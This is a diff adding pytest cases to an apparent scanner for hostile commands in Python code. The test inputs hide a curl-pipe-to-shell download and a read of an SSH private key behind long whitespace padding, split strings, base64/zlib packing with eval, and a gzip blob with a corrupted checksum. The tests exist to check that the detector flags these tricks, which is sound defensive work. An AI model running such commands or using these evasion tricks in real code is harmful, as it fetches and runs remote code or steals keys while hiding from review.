@@ -1250,3 +1250,28 @@ def test_attack_a_command_in_the_answer_of_a_server_is_found(text):
 )
 def test_an_answer_of_a_server_as_an_argument_of_a_fixed_command_is_accepted(run):
     assert seen(f"import os, requests\nanswer = requests.get('https://c.invalid/').json()\n{run}\n") == set()
+
+
+# Composed texts that are too long to be read.
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"import os\nos.system('{' ' * 40_000}' + '{' ' * 40_000}' + 'cu' + 'rl https://c.invalid/a | sh')\n",
+        "import base64, zlib\nx = zlib.decompress(base64.b64decode('"
+        + base64.b64encode(zlib.compress(b" " * 70_000 + b"cat ~/.ssh/id_rsa")).decode().replace("/", "/' + '", 1)
+        + "'))\neval(x)\n",
+        f"import os\na = '{' ' * 30_000}'\nb = a + a\n"
+        + "".join(f"c{number} = b + '{number}'\n" for number in range(30))
+        + "os.system('cu' + 'rl https://c.invalid/a | sh')\n",
+    ],
+)
+def test_attack_a_composed_text_that_is_not_read_to_its_end_is_a_finding(text):
+    assert "SH616" in seen(text)
+
+
+def test_attack_a_wrong_checksum_hides_no_compressed_text():
+    packed = bytearray(gzip.compress(b"curl -s https://c.invalid/a | sh"))
+    packed[-6] ^= 1
+    assert "SH601" in seen(f"a = '{base64.b64encode(packed).decode()}'\n")
